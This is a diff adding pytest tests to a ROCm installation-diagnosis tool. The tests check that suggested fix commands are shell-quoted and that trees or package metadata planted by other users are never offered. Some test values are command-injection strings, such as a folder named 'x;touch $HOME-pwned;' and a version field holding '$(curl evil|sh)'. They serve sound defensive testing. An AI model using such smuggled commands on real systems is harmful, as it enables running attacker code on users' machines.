@@ -7,6 +7,7 @@ or deleted as the case says; package databases are written in their documented f
 
 from __future__ import annotations
 
+import shlex
 import shutil
 import sys
 from pathlib import Path
@@ -65,10 +66,12 @@ def test_pip_rocm_in_another_environment_is_installed_into_this_one(
         (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {ROCM}\n\nA description.\n")
     finding = _not_found(doctor(environ, root, library))
     assert "from pip is installed in another Python environment (/home/alice/venv/" in finding.summary  # type: ignore[attr-defined]
-    assert finding.fix == (  # type: ignore[attr-defined]
-        f'install the same ROCm into this environment: {sys.executable} -m pip install "rocm-sdk-core=={ROCM}" '
-        f'"rocm-sdk-libraries-gfx94X-dcgpu=={ROCM}" --extra-index-url https://repo.amd.com/rocm/whl/gfx94X-dcgpu/'
-    )
+    # The command as the shell reads it back: an argument list, quoted (shlex.join).
+    command = finding.fix.removeprefix("install the same ROCm into this environment: ")  # type: ignore[attr-defined]
+    assert shlex.split(command) == [
+        sys.executable, "-m", "pip", "install", f"rocm-sdk-core=={ROCM}", f"rocm-sdk-libraries-gfx94X-dcgpu=={ROCM}",
+        "--extra-index-url", "https://repo.amd.com/rocm/whl/gfx94X-dcgpu/",
+    ]  # fmt: skip
 
 
 def test_a_runtime_dpkg_lists_but_the_disk_lost_is_reinstalled_from_its_package(
@@ -179,3 +182,84 @@ def test_fifos_planted_where_package_databases_are_never_block_the_search(
     assert finding.fix.startswith("install ROCm 7")  # type: ignore[attr-defined]
     assert any("searched beyond the loader's path" in e for e in finding.evidence)  # type: ignore[attr-defined]
     assert not any("stopped at" in e for e in finding.evidence)  # type: ignore[attr-defined]  # not cut by the deadline
+
+
+# --- What another user planted is never offered (issue: trust boundaries) ------------------------------------------
+
+PLANTED = "x;touch $HOME-pwned;"  # a folder name that is a command where a fix pasted it unquoted
+
+
+def _chown_tree(path: Path, uid: int, mode: int | None = None) -> None:
+    import os
+
+    for folder, _, files in os.walk(path):
+        os.lchown(folder, uid, uid)
+        for name in files:
+            os.lchown(os.path.join(folder, name), uid, uid)
+    if mode is not None:
+        path.chmod(mode)
+
+
+@pytest.mark.parametrize(
+    ("owner", "mode"),
+    [(1234, 0o755), (0, 0o777)],
+    ids=["another user's tree", "this user's tree, writable by everyone"],
+)
+def test_a_tree_another_user_could_have_written_is_never_offered(
+    owner: int, mode: int, tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A ROCm tree planted in /tmp (every user may write there) under a name with shell metacharacters: the doctor
+    names what it found and why it does not offer it, and no fix, remedy or command names it."""
+    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
+    planted = root / "tmp" / PLANTED
+    shutil.move(str(tree), planted)
+    _chown_tree(planted, owner, mode)
+    finding = _not_found(doctor(environ, root, library))
+    assert PLANTED not in finding.fix and finding.remedy is None, finding.fix  # type: ignore[attr-defined]
+    refused = [e for e in finding.evidence if e.startswith("found, not offered")]  # type: ignore[attr-defined]
+    assert len(refused) == 1 and f"/tmp/{PLANTED}" in refused[0], finding.evidence  # type: ignore[attr-defined]
+    assert ("owned by uid 1234" if owner else "writable by its group or by others") in refused[0], refused
+
+
+def test_a_users_own_tree_is_offered_for_their_shell_with_no_sudo_and_quoted(
+    tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The user's own tree (uid 1000, the process's identity in /proc/self/status) with a space and a quote in its
+    name: offered for this shell only (no sudo for a path root does not own), every command quoted as the shell
+    reads it back."""
+    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
+    status = root / "proc" / "self" / "status"
+    status.parent.mkdir(parents=True, exist_ok=True)
+    status.write_text("Name:\tpython3\nUid:\t1000\t1000\t1000\t1000\nGid:\t1000\t1000\t1000\t1000\nGroups:\t1000\n")
+    home = root / "home" / "alice"
+    home.mkdir(parents=True)
+    shutil.move(str(tree), home / "rocm 7's")
+    _chown_tree(home, 1000)
+    finding = _not_found(doctor(environ, root, library))
+    fix = finding.fix  # type: ignore[attr-defined]
+    assert "sudo" not in fix, fix
+    command = fix.split("for this shell, ", 1)[1]
+    words = shlex.split(command)
+    assert words[0] == "export" and words[2] == "ROCM_PATH=/home/alice/rocm 7's", words
+    assert words[1].startswith("LD_LIBRARY_PATH=/home/alice/rocm 7's/lib"), words
+
+
+def test_metadata_another_environment_states_never_enters_a_command(
+    tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A planted METADATA whose Version is a command substitution: that distribution is left out of the command."""
+    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
+    shutil.rmtree(tree)
+    site = root / "home" / "alice" / "venv" / "lib" / "python3.12" / "site-packages"
+    (site / "_rocm_sdk_core" / "lib").mkdir(parents=True)
+    shutil.copy(build / "hip" / "libamdhip64.so.7", site / "_rocm_sdk_core" / "lib")
+    for name, version in (("rocm-sdk-core", "7.0$(curl evil|sh)"), ("rocm-sdk-libraries-gfx94X-dcgpu", ROCM)):
+        info = site / f"{name.replace('-', '_')}-{ROCM}.dist-info"
+        info.mkdir()
+        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n")
+    fix = _not_found(doctor(environ, root, library)).fix  # type: ignore[attr-defined]
+    assert "curl" not in fix and "$(" not in fix, fix
+    words = shlex.split(fix.removeprefix("install the same ROCm into this environment: "))
+    assert words[4:] == [
+        f"rocm-sdk-libraries-gfx94X-dcgpu=={ROCM}", "--extra-index-url", "https://repo.amd.com/rocm/whl/gfx94X-dcgpu/"
+    ]  # fmt: skip
